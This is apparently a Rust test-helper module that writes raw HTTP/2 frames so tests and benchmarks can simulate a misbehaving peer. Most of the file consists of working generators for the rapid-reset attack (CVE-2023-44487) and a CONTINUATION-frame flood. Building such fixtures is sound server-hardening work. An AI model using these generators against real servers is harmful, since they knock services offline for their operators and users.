//! Raw HTTP/2 frames for tests and benchmarks whose peer misbehaves on purpose: a library would
//! refuse to, so attacks (and a server refusing a stream at a chosen moment) are written as
//! bytes on the wire.

/// The client connection preface.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// HPACK for `:method GET`, `:scheme http`, `:path /`, `:authority echo`.
pub const GET_HEADERS: [u8; 9] = [0x82, 0x86, 0x84, 0x41, 0x04, b'e', b'c', b'h', b'o'];

/// One frame: length, type, flags, stream id, payload.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = payload.len() as u32;
    let mut out = vec![(length >> 16) as u8, (length >> 8) as u8, length as u8, kind, flags];
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// Whether `bytes` (frames from a server) hold a GOAWAY.
pub fn has_goaway(bytes: &[u8]) -> bool {
    let mut at = 0;
    while at + 9 <= bytes.len() {
        let length = (usize::from(bytes[at]) << 16) | (usize::from(bytes[at + 1]) << 8) | usize::from(bytes[at + 2]);
        if bytes[at + 3] == 0x7 {
            return true;
        }
        at += 9 + length;
    }
    false
}

/// The rapid-reset attack (CVE-2023-44487): preface, SETTINGS, then `streams` times a request
/// opened and cancelled at once.
pub fn rapid_reset(streams: u32) -> Vec<u8> {
    let mut attack = PREFACE.to_vec();
    attack.extend(frame(0x4, 0, 0, &[]));
    for i in 0..streams {
        let id = 2 * i + 1;
        attack.extend(frame(0x1, 0x5, id, &GET_HEADERS)); // HEADERS, END_STREAM | END_HEADERS
        attack.extend(frame(0x3, 0, id, &8u32.to_be_bytes())); // RST_STREAM CANCEL
    }
    attack
}

/// The start of a CONTINUATION flood: preface, SETTINGS and a HEADERS frame without
/// END_HEADERS; then send [`continuation_frame`] forever.
pub fn continuation_flood_start() -> Vec<u8> {
    let mut start = PREFACE.to_vec();
    start.extend(frame(0x4, 0, 0, &[]));
    start.extend(frame(0x1, 0x1, 1, &GET_HEADERS));
    start
}

/// A CONTINUATION frame on stream 1 carrying a 4 KiB literal header, without END_HEADERS.
pub fn continuation_frame() -> Vec<u8> {
    let mut literal = vec![0x40, 0x05];
    literal.extend_from_slice(b"x-pad");
    literal.extend_from_slice(&[0x7f, 0x81, 0x1f]); // value length 4096 (7-bit prefix integer)
    literal.extend(std::iter::repeat_n(b'a', 4096));
    frame(0x9, 0, 1, &literal)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_laid_out_as_rfc_9113_says() {
        let settings = frame(0x4, 0, 0, &[]);
        assert_eq!(settings, [0, 0, 0, 4, 0, 0, 0, 0, 0]);
        let goaway = frame(0x7, 0, 0, &[0; 8]);
        assert!(has_goaway(&[settings.clone(), goaway].concat()));
        assert!(!has_goaway(&settings));
        assert_eq!(continuation_frame().len(), 9 + 2 + 5 + 3 + 4096);
        assert_eq!(rapid_reset(2).len(), PREFACE.len() + 9 + 2 * (9 + 9 + 9 + 4));
    }
}
